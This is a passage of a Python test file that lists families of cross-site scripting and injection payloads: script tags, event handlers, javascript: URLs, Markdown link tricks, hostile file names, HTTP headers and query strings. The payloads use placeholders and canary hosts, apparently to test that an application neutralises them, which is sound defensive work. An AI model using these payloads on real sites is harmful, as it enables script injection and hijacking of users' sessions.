⟦<script>%JS%</script>⟧
{{"<script>%JS%</script>"}}{% raw %}<script>%JS%</script>
\u2028<script>%JS%</script>\u202e
<details open ontoggle=%JS%>Lock
<video poster=%AT%></video>
<input autofocus onfocus=%JS%>
"""

_ADDRESSES = """
javascript:%JS%
JaVaScRiPt:%JS%
java\tscript:%JS%
 javascript:%JS%
javascript://quay.example/%0a%JS%
data:text/html,<script>%JS%</script>
http://quay.example/%ID%"><script>%JS%</script>
http://quay.example/%ID%'><svg/onload=%JS%>
http://quay.example/%ID%" autofocus onfocus=%JS% x="
http://quay.example/<script>%JS%</script>
http://quay.example/?q="><svg/onload=%JS%>
http://quay.example/%ID%#"><script>%JS%</script>
http://"><script>%JS%</script>.example/
http://quay.example\\"onmouseover=%JS%//%ID%
//canary.example/%ID%
http://[::1"><script>%JS%</script>
http://ｑｕａｙ.example/%ID%<svg/onload=%JS%>
"""

# whole captures of plain text and of Markdown, and what stands between their lines
_TEXTS = """
<script>%JS%</script>
<img src=x: onerror=%JS%>
"><svg onload=%JS%>
</pre><script>%JS%</script>
</span></pre></body><img src=x: onerror=%JS%>
<a href="javascript:%JS%">Ferry</a>
<style>@import "%AT%";</style>
<iframe src="%AT%"></iframe>
<!--><script>%JS%</script>-->
<meta http-equiv=refresh content="0;url=%AT%">
<ingest-b onclick=%JS%>Ferry</ingest-b>
<base href=http://canary.example/><img src=%ID%>
<form action=%AT%><button>Ferry</button></form>
"""
_MARKDOWN = """
![A quay](%AT%)
[Ferry](javascript:%JS%)
[Ferry](<javascript:%JS%> "title")
[Ferry](&#106;avascript:%JS%)
<javascript:%JS%>
[a]: javascript:%JS%
![x](x:"onerror="%JS%)
# <img src=x: onerror=%JS%>
```html"onload=%JS%
| <script>%JS%</script> | tide |
> <svg onload=%JS%>
"""

# names of files cannot hold a slash
_NAMES = """
"><img src=x: onerror=%SET%>.html
'><svg onload=%SET%>.html
<img src=x: onerror=%SET%>.txt
<details open ontoggle=%SET%>.md
" autofocus onfocus=%SET% x=".html
javascript:%SET%,x.html
<svg onload=%SET%>?#%2f.html
-->]]><svg onload=%SET%>.txt
"""

_HEADERS = """
Link: <%AT%>; rel=preload; as=image
Link: <%AT%>; rel=prefetch
Link: <%AT%>; rel=modulepreload
Refresh: 0; url=%AT%
refresh: 0;%AT%
Content-Security-Policy: default-src *; img-src 'none'; report-uri %AT%
Content-Security-Policy-Report-Only: default-src 'none'; report-uri %AT%
"""

_OLD_HEADERS = """
Link: <%AT%>; rel=stylesheet
Content-Type: text/html; charset=utf-7
Set-Cookie: bad=1
Location: %AT%
SourceMap: %AT%
Reporting-Endpoints: default="%AT%"
X-Bad: <script>%JS%</script>
Content-Disposition: inline; filename="<script>%JS%</script>"
Access-Control-Allow-Origin: *
Speculation-Rules: "%AT%"
"""

# what a link to the room could carry
_QUERIES = """
<script>%JS%</script>
"><script>%JS%</script>
'><img src=x: onerror=%JS%>
" autofocus onfocus=%JS% x="
</title><script>%JS%</script>
</textarea><script>%JS%</script>
</script><script>%JS%</script>
--><svg onload=%JS%>
javascript:%JS%
"<svg onload=%JS%>" OR *
{{"<img src=x: onerror=%JS%>"}}
\u2028</script><svg onload=%JS%>
<meta http-equiv=refresh content="0;%AT%">
<base href=http://canary.example/><img src=%ID%>
"""


def _lines(text: str) -> tuple[str, ...]:
    """Return the attacks of a table, one a line."""
    return tuple(text.strip("\n").split("\n"))


FAMILIES: Mapping[str, Family] = {
    "script": Family(_lines(_SCRIPT)),
    "handler": Family(_lines(_HANDLERS)),
    "link": Family(_lines(_LINKS)),
    "leaving": Family(_lines(_LEAVING), alone=True),
    "asking": Family(_lines(_ASKING)),
    "unscripted": Family(_lines(_UNSCRIPTED), scripted=False),
    "style": Family(_lines(_STYLES)),
    "hovering": Family(_lines(_HOVERING)),
    "parsing": Family(_lines(_PARSING), alone=True),
    "dormant": Family(_lines(_DORMANT), bites=False, alone=True),
    "encoding": Family(_lines(_ENCODINGS), alone=True),
    "old-encoding": Family(_lines(_OLD_ENCODINGS), bites=False, alone=True),
    "field": Family(_lines(_FIELDS)),
    "address": Family(_lines(_ADDRESSES)),
    "text": Family(_lines(_TEXTS)),
    "markdown": Family(_lines(_MARKDOWN), bites=False),
    "name": Family(_lines(_NAMES)),
    "header": Family(_lines(_HEADERS), alone=True),
    "old-header": Family(_lines(_OLD_HEADERS), bites=False, alone=True),
    "query": Family(_lines(_QUERIES)),
}
"""Name -> attacks of that kind."""
